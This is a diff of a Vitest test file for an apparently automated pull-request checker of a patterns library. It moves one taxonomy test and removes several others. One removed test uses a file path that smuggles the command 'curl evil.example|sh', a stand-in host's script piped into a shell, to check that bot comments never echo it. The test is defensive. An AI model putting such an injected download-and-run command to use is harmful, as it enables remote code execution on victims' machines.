@@ -1,5 +1,5 @@
 import { expect } from 'vitest';
-import { checkOf, commentsOf, contributor } from './contributor.ts';
+import { checkOf, contributor } from './contributor.ts';
 import { test } from './shared-stage.ts';
 import { emptyLibrary, type Stage } from './stage.ts';
 import { batchingDraft, batchingPath, cachingDraft, cachingPath, cachingWrong, indexPath } from './texts.ts';
@@ -43,31 +43,6 @@ test('a second pull request of the same commit into another branch turns nothing
   expect(await ada.merge(high)).toBe(405);
 });
 
-test.each(['taxonomy.yaml', 'README.md'])('%s of a domain cannot be removed', async name => {
-  const library = await stage.library();
-  const ada = await contributor(stage, 'ada', library);
-  await ada.push('remove', { [`patterns/ml/${name}`]: null });
-  const pull = await ada.open('remove');
-  await stage.settled();
-  expect(checkOf(library, pull)).toMatchObject({
-    conclusion: 'FAILURE',
-    annotations: [{ path: `patterns/ml/${name}` }],
-  });
-});
-
-test('a taxonomy that would break a pattern is refused', async () => {
-  const library = await stage.library({ ...emptyLibrary, [cachingPath]: cachingDraft });
-  const ada = await contributor(stage, 'ada', library);
-  const text = (emptyLibrary['patterns/ml/taxonomy.yaml'] ?? '')
-    .replace('areas: [OPT]', 'areas: [OPTI]')
-    .replaceAll('ML-OPT-', 'ML-OPTI-');
-  await ada.push('rename', { 'patterns/ml/taxonomy.yaml': text });
-  const pull = await ada.open('rename');
-  await stage.settled();
-  expect(checkOf(library, pull)?.annotations).toMatchObject([{ title: 'taxonomy' }]);
-  expect(checkOf(library, pull)?.annotations[0]?.message).toContain('ML-OPT-008');
-});
-
 test('fingerprints are compared with the tree, however old the index is', async () => {
   const library = await stage.library(emptyLibrary, { protection: { restrictPushes: true, bypassApps: [] } });
   const ada = await contributor(stage, 'ada', library);
@@ -86,14 +61,17 @@ test('fingerprints are compared with the tree, however old the index is', async 
     ]);
 });
 
-test('a folder’s name never becomes a command in the comment', async () => {
-  const library = await stage.library();
+test('a taxonomy that would break a pattern is refused', async () => {
+  const library = await stage.library({ ...emptyLibrary, [cachingPath]: cachingDraft });
   const ada = await contributor(stage, 'ada', library);
-  await ada.push('sly', { 'patterns/ml/optimization/x; curl evil.example|sh #/README.md': cachingDraft });
-  const pull = await ada.open('sly');
+  const text = (emptyLibrary['patterns/ml/taxonomy.yaml'] ?? '')
+    .replace('areas: [OPT]', 'areas: [OPTI]')
+    .replaceAll('ML-OPT-', 'ML-OPTI-');
+  await ada.push('rename', { 'patterns/ml/taxonomy.yaml': text });
+  const pull = await ada.open('rename');
   await stage.settled();
-  expect(checkOf(library, pull)?.conclusion).toBe('FAILURE');
-  expect(commentsOf(pull)[0]).not.toMatch(/check [^\n]*curl/);
+  expect(checkOf(library, pull)?.annotations).toMatchObject([{ title: 'taxonomy' }]);
+  expect(checkOf(library, pull)?.annotations[0]?.message).toContain('ML-OPT-008');
 });
 
 test('a label that people use in a namespace of ours stays theirs', async () => {
@@ -108,15 +86,4 @@ test('a label that people use in a namespace of ours stays theirs', async () => 
   await ada.push('docs', { 'docs/notes.md': 'y\n' }, { from: 'HEAD' });
   await stage.settled();
   expect(pull.labels).toEqual(['review:security']);
-});
-
-test('Markdown directly in patterns/ is no silent pass', async () => {
-  const library = await stage.library();
-  const ada = await contributor(stage, 'ada', library);
-  await ada.push('stray', { 'patterns/prediction-caching.md': cachingDraft });
-  const pull = await ada.open('stray');
-  await stage.settled();
-  expect(checkOf(library, pull)?.annotations).toMatchObject([
-    { path: 'patterns/prediction-caching.md', title: 'location' },
-  ]);
 });
